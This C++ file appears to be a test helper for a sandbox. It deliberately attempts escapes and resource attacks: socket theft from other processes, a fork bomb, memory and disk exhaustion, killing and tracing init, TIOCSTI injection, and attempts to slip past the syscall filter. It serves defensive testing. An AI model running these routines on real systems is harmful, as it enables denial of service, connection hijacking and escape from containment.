// What hostile code inside a sandbox would try. Static, so that it runs in any image. Every attempt is
// reported as a line `NAME RESULT`, the result being `ok`, the name of an error, or a count, so that a test
// can tell an attack that was repelled from one that never ran.
#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <functional>
#include <string>
#include <vector>

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/tiocl.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <sched.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

void report(const std::string& name, long result)
{
    std::printf("%s %s\n", name.c_str(), result < 0 ? strerrorname_np(errno) : "ok");
    std::fflush(stdout);
}

std::vector<int> processes()
{
    std::vector<int> pids;
    DIR* const entries = ::opendir("/proc");
    while (const dirent* entry = ::readdir(entries)) {
        if (const int pid = std::atoi(entry->d_name); pid > 0) {
            pids.push_back(pid);
        }
    }
    ::closedir(entries);
    return pids;
}

long connect_to(int fd, const char* address, int port)
{
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(static_cast<std::uint16_t>(port));
    ::inet_pton(AF_INET, address, &to.sin_addr);
    return ::connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to));
}

/// Takes every socket of every process, dissolves what it is connected to and connects it to the host.
void steal_sockets(int port)
{
    int taken = 0;
    int unix_sockets = 0;
    int dissolved = 0;
    int connected = 0;
    for (const int pid : processes()) {
        if (pid == ::getpid()) {
            continue;
        }
        const int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
        for (int number = 0; number < 64; ++number) {
            const int fd = static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0));
            if (fd < 0 && pid == 1 && number == 6) {
                report("take-from-init", fd);
            }
            struct stat status{};
            if (fd < 0 || ::fstat(fd, &status) != 0 || !S_ISSOCK(status.st_mode)) {
                continue;
            }
            ++taken;
            int domain = 0;
            socklen_t length = sizeof(domain);
            ::getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &length);
            unix_sockets += domain == AF_UNIX ? 1 : 0;
            const int copy = ::dup(fd);
            sockaddr unspecified{};
            unspecified.sa_family = AF_UNSPEC;
            dissolved += ::connect(copy, &unspecified, sizeof(unspecified)) == 0 ? 1 : 0;
            connected += connect_to(copy, "127.0.0.1", port) == 0 ? 1 : 0;
        }
    }
    std::printf("sockets-taken %d\nof-them-unix %d\ndissolved %d\nconnected %d\n", taken, unix_sockets,
                dissolved, connected);
}

/// A socket that nobody can close within an hour: there is something to be sent, and nobody who takes it.
int lingering_socket()
{
    const int listener = ::socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t length = sizeof(address);
    ::bind(listener, reinterpret_cast<sockaddr*>(&address), length);
    ::listen(listener, 1);
    ::getsockname(listener, reinterpret_cast<sockaddr*>(&address), &length);
    const int sender = ::socket(AF_INET, SOCK_STREAM, 0);
    ::connect(sender, reinterpret_cast<sockaddr*>(&address), sizeof(address));
    ::accept(listener, nullptr, nullptr); // left open, and never read from
    const std::vector<char> block(1 << 16, 'x');
    while (::send(sender, block.data(), block.size(), MSG_DONTWAIT) > 0) {
    }
    const linger patience{1, 3600};
    ::setsockopt(sender, SOL_SOCKET, SO_LINGER, &patience, sizeof(patience));
    return sender;
}

bool send_descriptors(int channel, const int* descriptors, std::size_t count)
{
    char byte = 0;
    iovec data{&byte, 1};
    std::vector<char> control(CMSG_SPACE(sizeof(int) * count));
    msghdr message{};
    message.msg_iov = &data;
    message.msg_iovlen = 1;
    message.msg_control = control.data();
    message.msg_controllen = control.size();
    cmsghdr* const header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof(int) * count);
    std::memcpy(CMSG_DATA(header), descriptors, sizeof(int) * count);
    return ::sendmsg(channel, &message, MSG_DONTWAIT | MSG_NOSIGNAL) == 1;
}

void close_standard_descriptors()
{
    for (const int standard : {STDIN_FILENO, STDOUT_FILENO, STDERR_FILENO}) {
        ::close(standard);
    }
}

bool is_unauthenticated_session(int pid)
{
    std::vector<char> title(256);
    const int fd = ::open(("/proc/" + std::to_string(pid) + "/cmdline").c_str(), O_RDONLY);
    const ssize_t size = ::read(fd, title.data(), title.size() - 1);
    ::close(fd);
    return size > 0 && (std::strstr(title.data(), "[accepted]") != nullptr ||
                        std::strstr(title.data(), "[net]") != nullptr);
}

/// Takes what the connections of others lead over, and sends through it a socket that cannot be closed. The
/// last one to close it is to be the receiver; a process remains that is at the other end of it.
void freeze_receivers()
{
    int taken = 0;
    for (const int pid : processes()) {
        if (!is_unauthenticated_session(pid)) {
            continue;
        }
        const int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
        for (int number = 0; number < 64; ++number) {
            const int fd = static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0));
            struct stat status{};
            if (fd < 0 || ::fstat(fd, &status) != 0) {
                continue;
            }
            taken += S_ISFIFO(status.st_mode) || S_ISSOCK(status.st_mode) ? 1 : 0;
            if (S_ISSOCK(status.st_mode) && ::fork() == 0) {
                close_standard_descriptors();
                const int lingering = lingering_socket();
                send_descriptors(fd, &lingering, 1);
                ::close(lingering);
                ::close(fd);
                ::pause();
            }
            ::close(fd);
        }
    }
    std::printf("taken %d\n", taken);
}

/// One that nobody reads from: what is sent to it waits.
int full_socket()
{
    int pair[2];
    ::socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    const std::vector<char> block(1 << 16, 'x');
    while (::send(pair[0], block.data(), block.size(), MSG_DONTWAIT) > 0) {
    }
    return pair[0];
}

/// Takes the ends that the connections of others are read from, and leaves processes behind that hold the
/// locks of those pipes from the first byte on: the kernel keeps a pipe locked while what is in it is sent to
/// a socket that is full.
void hold_pipes()
{
    int taken = 0;
    for (const int pid : processes()) {
        if (!is_unauthenticated_session(pid)) {
            continue;
        }
        ::kill(pid, SIGSTOP); // or it would read the bytes
        const int process = static_cast<int>(::syscall(SYS_pidfd_open, pid, 0));
        for (int number = 0; number < 64; ++number) {
            const int fd = static_cast<int>(::syscall(SYS_pidfd_getfd, process, number, 0));
            struct stat status{};
            if (fd < 0 || ::fstat(fd, &status) != 0 || !S_ISFIFO(status.st_mode) ||
                (::fcntl(fd, F_GETFL) & O_ACCMODE) != O_RDONLY) {
                ::close(fd);
                continue;
            }
            ++taken;
            if (::fork() == 0) {
                close_standard_descriptors();
                const int full = full_socket();
                for (;;) {
                    ::splice(fd, nullptr, full, nullptr, 1 << 16, 0);
                }
            }
            ::close(fd);
        }
    }
    std::printf("taken %d\n", taken);
}

/// With as many descriptors as one may have.
void raise_files()
{
    rlimit files{};
    ::getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    ::setrlimit(RLIMIT_NOFILE, &files);
}

/// Sends as many descriptors as it may to nobody, and leaves a process behind that keeps them on their way.
void descriptors_in_flight(int wanted)
{
    raise_files();
    constexpr std::size_t most = 253; // in one message
    const std::vector<int> descriptors(most, ::open("/dev/null", O_RDONLY));
    int sent = 0;
    while (sent < wanted) {
        int pair[2];
        if (::socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0 ||
            !send_descriptors(pair[0], descriptors.data(), descriptors.size())) {
            break;
        }
        sent += most;
    }
    std::printf("in-flight %d\n", sent);
    std::fflush(stdout);
    if (::fork() == 0) {
        close_standard_descriptors();
        ::pause();
    }
}

/// Takes what the kernel counts until it gives no more; returns how much that was.
long take_until_refused(const std::function<bool()>& take_one)
{
    long taken = 0;
    while (taken < (1 << 22) && take_one()) {
        ++taken;
    }
    return taken;
}

bool watch(int epoll, int what)
{
    epoll_event event{};
    return ::epoll_ctl(epoll, EPOLL_CTL_ADD, what, &event) == 0;
}

/// A watch is a pair: as many descriptors watched by as many others. Returns how many it made.
long take_epoll_watches()
{
    std::vector<int> watched;
    for (int fd = 0; watched.size() < 900 && fd >= 0;) {
        fd = ::eventfd(0, 0);
        watched.push_back(fd);
    }
    long taken = 0;
    for (int round = 0; round < 900; ++round) {
        const int epoll = ::epoll_create1(0);
        for (const int fd : watched) {
            if (!watch(epoll, fd)) {
                return taken;
            }
            ++taken;
        }
    }
    return taken;
}

bool take_pipe()
{
    int ends[2];
    return ::pipe(ends) == 0 && ::fcntl(ends[0], F_SETPIPE_SZ, 1 << 20) > 0;
}

bool take_timer()
{
    timer_t timer{};
    return ::timer_create(CLOCK_MONOTONIC, nullptr, &timer) == 0;
}

bool take_message_queue()
{
    static int number = 0;
    return ::mq_open(("/q" + std::to_string(++number)).c_str(), O_RDWR | O_CREAT, 0600, nullptr) >= 0;
}

/// Uses up what the kernel counts by user, and leaves processes behind that keep it. Each process takes until
/// it is refused, so that a limit of its own is not mistaken for the user's.
void use_up(const std::string& what)
{
    raise_files();
    long all = 0;
    for (int process = 0; process < 16; ++process) {
        int report[2];
        if (::pipe(report) != 0) {
            break;
        }
        if (::fork() == 0) {
            ::close(report[0]);
            const long taken = what == "inotify"  ? take_until_refused([] { return ::inotify_init1(0) >= 0; })
                               : what == "epoll"  ? take_epoll_watches()
                               : what == "pipes"  ? take_until_refused(&take_pipe)
                               : what == "timers" ? take_until_refused(&take_timer)
                                                  : take_until_refused(&take_message_queue);
            if (::write(report[1], &taken, sizeof(taken)) == sizeof(taken)) {
                close_standard_descriptors();
                ::close(report[1]);
                ::pause();
            }
            ::_exit(0);
        }
        ::close(report[1]);
        long taken = 0;
        if (::read(report[0], &taken, sizeof(taken)) != sizeof(taken) || taken == 0) {
            break;
        }
        all += taken;
        ::close(report[0]);
    }
    std::printf("taken %ld\n", all);
}

/// One of each of what use_up() takes.
void use_one_of_each()
{
    report("inotify", ::inotify_init1(0));
    report("epoll", watch(::epoll_create1(0), ::eventfd(0, 0)) ? 0 : -1);
    report("pipes", take_pipe() ? 0 : -1);
    report("timers", take_timer() ? 0 : -1);
    report("queues", take_message_queue() ? 0 : -1);
    int pair[2];
    ::socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
    report("in-flight", send_descriptors(pair[0], pair, 1) ? 0 : -1);
}

void namespaces()
{
    report("unshare-user", ::unshare(CLONE_NEWUSER));
    report("unshare-mount", ::unshare(CLONE_NEWNS));
    report("unshare-net", ::unshare(CLONE_NEWNET));
    report("clone-user", ::syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    clone_args arguments{};
    arguments.flags = CLONE_NEWUSER;
    arguments.exit_signal = SIGCHLD;
    report("clone3", ::syscall(SYS_clone3, &arguments, sizeof(arguments)));
    const int self = ::open("/proc/self/ns/user", O_RDONLY);
    report("setns", ::setns(self, 0));
    report("mount", ::mount("x", "/tmp", "tmpfs", 0, nullptr));
    report("remount", ::mount(nullptr, "/usr", nullptr, MS_REMOUNT | MS_BIND, nullptr));
    report("umount", ::umount2("/etc", MNT_DETACH));
    report("chroot", ::chroot("/tmp"));
    report("open_tree", ::syscall(SYS_open_tree, AT_FDCWD, "/", 1));
    report("fsopen", ::syscall(SYS_fsopen, "tmpfs", 0));
}

void system_calls()
{
    report("keyctl", ::syscall(SYS_keyctl, 0, -3, 1));
    report("add_key", ::syscall(SYS_add_key, "user", "x", "y", 1, -3));
    report("request_key", ::syscall(SYS_request_key, "user", "x", nullptr, -3));
    report("bpf", ::syscall(SYS_bpf, 0, nullptr, 0));
    perf_event_attr attributes{};
    report("perf_event_open", ::syscall(SYS_perf_event_open, &attributes, 0, -1, -1, 0));
    report("userfaultfd", ::syscall(SYS_userfaultfd, 1));
    io_uring_params parameters{};
    report("io_uring_setup", ::syscall(SYS_io_uring_setup, 1, &parameters));
    report("kexec_load", ::syscall(SYS_kexec_load, 0, 0, nullptr, 0));
    report("init_module", ::syscall(SYS_init_module, "", 0, ""));
    report("finit_module", ::syscall(SYS_finit_module, 0, "", 0));
    report("open_by_handle_at", ::syscall(SYS_open_by_handle_at, AT_FDCWD, nullptr, 0));
    report("syslog", ::syscall(SYS_syslog, 3, nullptr, 0));
    report("sethostname", ::sethostname("x", 1));
}

void families()
{
    report("inet", ::socket(AF_INET, SOCK_STREAM, 0));
    report("raw", ::socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
    for (const auto& [name, family] : {std::pair{"packet", AF_PACKET},
                                       {"vsock", AF_VSOCK},
                                       {"alg", AF_ALG},
                                       {"bluetooth", AF_BLUETOOTH},
                                       {"can", AF_CAN},
                                       {"tipc", AF_TIPC},
                                       {"rds", AF_RDS},
                                       {"key", AF_KEY},
                                       {"x25", AF_X25},
                                       {"xdp", AF_XDP}}) {
        report(name, ::socket(family, SOCK_DGRAM, 0));
        report(std::string{name} + "-high-bits",
               ::syscall(SYS_socket, (1ULL << 32U) | static_cast<unsigned>(family), SOCK_DGRAM, 0));
    }
    report("vsock-pair", ::syscall(SYS_socketpair, AF_VSOCK, SOCK_STREAM, 0, nullptr));
}

/// `NAME` and what became of it with more bits set than the kernel looks at.
void report_socket(const std::string& name, int family, int type, int protocol)
{
    report(name, ::socket(family, type, protocol));
    report(name + "-high-bits",
           ::syscall(SYS_socket, family, type, (1ULL << 32U) | static_cast<unsigned>(protocol)));
}

void protocols()
{
    report("tcp", ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, IPPROTO_TCP));
    report("udp", ::socket(AF_INET6, SOCK_DGRAM | SOCK_NONBLOCK, 0));
    report("netlink-route", ::socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE));
    for (const auto& [name, protocol] : {std::pair{"usersock", NETLINK_USERSOCK},
                                         {"sock-diag", NETLINK_SOCK_DIAG},
                                         {"xfrm", NETLINK_XFRM},
                                         {"audit", NETLINK_AUDIT},
                                         {"netfilter", NETLINK_NETFILTER},
                                         {"kobject-uevent", NETLINK_KOBJECT_UEVENT},
                                         {"generic", NETLINK_GENERIC},
                                         {"crypto", NETLINK_CRYPTO}}) {
        report_socket(std::string{"netlink-"} + name, AF_NETLINK, SOCK_RAW, protocol);
    }
    for (const int family : {AF_INET, AF_INET6}) {
        const std::string suffix = family == AF_INET ? "4" : "6";
        report_socket("mptcp" + suffix, family, SOCK_STREAM, IPPROTO_MPTCP);
        report_socket("udplite" + suffix, family, SOCK_DGRAM, IPPROTO_UDPLITE);
        report_socket("sctp" + suffix, family, SOCK_STREAM, IPPROTO_SCTP);
        report_socket("dccp" + suffix, family, SOCK_DGRAM, IPPROTO_DCCP);
        report_socket("l2tp" + suffix, family, SOCK_DGRAM, 115);
        report_socket("all-raw" + suffix, family, SOCK_RAW, IPPROTO_RAW);
        report("type-seqpacket" + suffix, ::socket(family, SOCK_SEQPACKET | SOCK_CLOEXEC, 0));
        report("type-dccp" + suffix, ::socket(family, SOCK_DCCP, 0));
        report("type-packet" + suffix, ::socket(family, SOCK_PACKET, 0));
    }
}

/// Numbers above what the filter was written for, called so that a kernel that has them would do it.
void later_calls()
{
    constexpr long open_tree_attr = 467;
    constexpr long file_getattr = 468;
    report("open_tree_attr", ::syscall(open_tree_attr, AT_FDCWD, "/", 0, nullptr, 0));
    std::vector<char> attributes(64);
    report("file_getattr", ::syscall(file_getattr, AT_FDCWD, "/tmp", attributes.data(), 24, 0));
    report("unknown", ::syscall(1000, 0, 0, 0, 0));
}

/// What a foreign system call ABI did to the process that tried it.
void report_child(const char* name, void (*attack)())
{
    const pid_t pid = ::fork();
    if (pid == 0) {
        attack();
        ::_exit(0);
    }
    int status = 0;
    ::waitpid(pid, &status, 0);
    std::printf("%s %s\n", name, WIFSIGNALED(status) ? sigabbrev_np(WTERMSIG(status)) : "ok");
}

void foreign_abis()
{
#ifdef __x86_64__
    report_child("x32", [] { ::syscall(0x40000000L + SYS_getpid); });
    report_child("i386", [] { asm volatile("int $0x80" : : "a"(20) : "memory"); }); // getpid
#endif
}

void terminal()
{
    const int master = ::posix_openpt(O_RDWR | O_NOCTTY);
    ::grantpt(master);
    ::unlockpt(master);
    const int slave = ::open(::ptsname(master), O_RDWR);
    report("tcgets", ::ioctl(slave, TIOCGWINSZ, std::vector<char>(64).data()));
    char key = 'x';
    report("tiocsti", ::ioctl(slave, TIOCSTI, &key));
    report("tiocsti-high-bits", ::syscall(SYS_ioctl, slave, (1ULL << 32U) | TIOCSTI, &key));
    report("tioclinux", ::ioctl(slave, TIOCLINUX, &key));
}

void other_processes()
{
    std::printf("processes %zu\n", processes().size());
    report("trace-init", ::ptrace(PTRACE_ATTACH, 1, nullptr, nullptr));
    report("init-memory", ::open("/proc/1/mem", O_RDWR));
    report("init-root", ::open("/proc/1/root/etc", O_RDONLY));
    report("kill-init", ::kill(1, SIGKILL));
}

void descriptors()
{
    for (const int pid : processes()) {
        const std::string path = "/proc/" + std::to_string(pid) + "/fd";
        DIR* const entries = ::opendir(path.c_str());
        while (const dirent* entry = entries != nullptr ? ::readdir(entries) : nullptr) {
            std::vector<char> target(4096);
            if (::readlinkat(::dirfd(entries), entry->d_name, target.data(), target.size() - 1) > 0) {
                std::printf("fd %d %s %s\n", pid, entry->d_name, target.data());
            }
        }
        if (entries != nullptr) {
            ::closedir(entries);
        }
    }
}

/// Every directory below `path` that a file can be made in.
void writable_directories(const std::string& path, int depth, dev_t proc)
{
    struct stat status{};
    if (::lstat(path.c_str(), &status) != 0 || !S_ISDIR(status.st_mode) || status.st_dev == proc ||
        depth > 12) {
        return;
    }
    const std::string probe = path + "/.drukbox-probe";
    if (const int fd = ::open(probe.c_str(), O_CREAT | O_EXCL | O_WRONLY, 0600); fd >= 0) {
        ::close(fd);
        ::unlink(probe.c_str());
        std::printf("writable %s\n", path.c_str());
        return;
    }
    DIR* const entries = ::opendir(path.c_str());
    while (const dirent* entry = entries != nullptr ? ::readdir(entries) : nullptr) {
        if (std::strcmp(entry->d_name, ".") != 0 && std::strcmp(entry->d_name, "..") != 0 &&
            (entry->d_type == DT_DIR || entry->d_type == DT_UNKNOWN)) {
            writable_directories((path == "/" ? "" : path) + "/" + entry->d_name, depth + 1, proc);
        }
    }
    if (entries != nullptr) {
        ::closedir(entries);
    }
}

void fill(const std::string& directory)
{
    const std::string path = directory + "/filler";
    const int fd = ::open(path.c_str(), O_CREAT | O_WRONLY, 0600);
    const std::vector<char> block(1 << 20, 'x');
    long megabytes = 0;
    while (fd >= 0 && megabytes < 4096 &&
           ::write(fd, block.data(), block.size()) == static_cast<ssize_t>(block.size())) {
        ++megabytes;
    }
    std::printf("filled %ld\n", megabytes);
    ::unlink(path.c_str());
}

/// Until it cannot any more, and far beyond what a sandbox may.
void make_files(const std::string& directory)
{
    long made = 0;
    for (bool more = true; more && made < 20'000; made += more ? 1 : 0) {
        const int fd = ::open((directory + "/f" + std::to_string(made)).c_str(), O_CREAT | O_EXCL, 0600);
        if (fd < 0) {
            report("make-file", -1);
        } else {
            ::close(fd);
        }
        more = fd >= 0;
    }
    std::printf("files %ld\n", made);
    for (long i = 0; i < made; ++i) {
        ::unlink((directory + "/f" + std::to_string(i)).c_str());
    }
}

void make_terminals()
{
    long made = 0;
    while (made < 200 && ::posix_openpt(O_RDWR | O_NOCTTY) >= 0) {
        ++made;
    }
    report("make-terminal", made < 200 ? -1 : 0);
    std::printf("terminals %ld\n", made);
}

/// Forks until it cannot any more, and once more from each child.
void fork_bomb()
{
    long children = 0;
    while (children < 100'000) {
        const pid_t pid = ::fork();
        if (pid < 0) {
            break;
        }
        if (pid == 0) {
            for (;;) {
                ::pause();
            }
        }
        ++children;
    }
    report("fork", -1);
    std::printf("children %ld\n", children);
    std::fflush(stdout);
    ::pause();
}

/// Whatever could put this process before others.
void raise_priority()
{
    report("nice", ::setpriority(PRIO_PROCESS, 0, ::getpriority(PRIO_PROCESS, 0) - 1));
    const rlimit most{40, 40};
    report("limit-nice", ::setrlimit(RLIMIT_NICE, &most));
    report("limit-rtprio", ::setrlimit(RLIMIT_RTPRIO, &most));
    sched_param first{};
    first.sched_priority = 1;
    report("fifo", ::sched_setscheduler(0, SCHED_FIFO, &first));
    report("rr", ::sched_setscheduler(0, SCHED_RR, &first));
    const int session = ::open("/proc/self/autogroup", O_WRONLY);
    report("session", session < 0 ? -1 : ::write(session, "-1", 2));
    // Into the policy that has the rest of the processors, and out of it again.
    const sched_param none{};
    report("idle", ::sched_setscheduler(0, SCHED_IDLE, &none));
    report("not-idle", ::sched_setscheduler(0, SCHED_OTHER, &none));
}

/// Keeps the processors busy, and goes on when this process has ended. Every loop is a session of its own:
/// some kernels have a share for each.
void loops(int count)
{
    int started = 0;
    for (; started < count; ++started) {
        const pid_t pid = ::fork();
        if (pid < 0) {
            break;
        }
        if (pid == 0) {
            ::setsid();
            for (int fd = 0; fd < 3; ++fd) {
                ::close(fd);
            }
            for (volatile bool busy = true; busy;) {
            }
        }
    }
    std::printf("loops %d\n", started);
}

void memory_hog(long megabytes)
{
    const pid_t pid = ::fork();
    if (pid == 0) {
        for (long i = 0; i < megabytes; ++i) {
            void* const block =
                ::mmap(nullptr, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
            if (block == MAP_FAILED) {
                ::_exit(1);
            }
            std::memset(block, 'x', 1 << 20);
        }
        ::_exit(0);
    }
    int status = 0;
    ::waitpid(pid, &status, 0);
    std::printf("hog %s\n", WIFSIGNALED(status)        ? sigabbrev_np(WTERMSIG(status))
                            : WEXITSTATUS(status) == 0 ? "ok"
                                                       : "refused");
}

void try_connect(const char* address, int port)
{
    report("connect", connect_to(::socket(AF_INET, SOCK_STREAM, 0), address, port));
}

/// By TCP and UDP, once as the routes say and once bound to the interface, which passes them by.
void approach(const char* address, int port)
{
    for (const bool bound : {false, true}) {
        const timeval patience{1, 0};
        const std::string suffix = bound ? "-bound" : "";
        const int stream = ::socket(AF_INET, SOCK_STREAM, 0);
        const int datagram = ::socket(AF_INET, SOCK_DGRAM, 0);
        for (const int fd : {stream, datagram}) {
            ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &patience, sizeof(patience));
            if (bound) {
                ::setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "tap0", 5);
            }
        }
        report("connect" + suffix, connect_to(stream, address, port));
        report("send" + suffix, connect_to(datagram, address, port) == 0 ? ::send(datagram, "x", 1, 0) : -1);
    }
}

} // namespace

int main(int argc, char** argv)
{
    ::setvbuf(stdout, nullptr, _IOLBF, 0);
    const std::string what = argc > 1 ? argv[1] : "";
    if (what == "steal-sockets") {
        steal_sockets(std::atoi(argv[2]));
    } else if (what == "freeze-receivers") {
        freeze_receivers();
    } else if (what == "hold-pipes") {
        hold_pipes();
    } else if (what == "descriptors-in-flight") {
        descriptors_in_flight(std::atoi(argv[2]));
    } else if (what == "use-up") {
        use_up(argv[2]);
    } else if (what == "use-one-of-each") {
        use_one_of_each();
    } else if (what == "namespaces") {
        namespaces();
    } else if (what == "system-calls") {
        system_calls();
    } else if (what == "families") {
        families();
    } else if (what == "protocols") {
        protocols();
    } else if (what == "later-calls") {
        later_calls();
    } else if (what == "foreign-abis") {
        foreign_abis();
    } else if (what == "terminal") {
        terminal();
    } else if (what == "other-processes") {
        other_processes();
    } else if (what == "descriptors") {
        descriptors();
    } else if (what == "writable-directories") {
        struct stat proc{};
        ::stat("/proc", &proc);
        writable_directories("/", 0, proc.st_dev);
    } else if (what == "fill") {
        fill(argv[2]);
    } else if (what == "make-files") {
        make_files(argv[2]);
    } else if (what == "make-terminals") {
        make_terminals();
    } else if (what == "fork-bomb") {
        fork_bomb();
    } else if (what == "raise-priority") {
        raise_priority();
    } else if (what == "loops") {
        loops(std::atoi(argv[2]));
    } else if (what == "memory-hog") {
        memory_hog(std::atol(argv[2]));
    } else if (what == "connect") {
        try_connect(argv[2], std::atoi(argv[3]));
    } else if (what == "approach") {
        approach(argv[2], std::atoi(argv[3]));
    } else if (what == "open") {
        for (int i = 2; i < argc; ++i) {
            report(std::string{"open "} + argv[i], ::open(argv[i], O_RDONLY));
        }
    } else {
        return 2;
    }
    return 0;
}
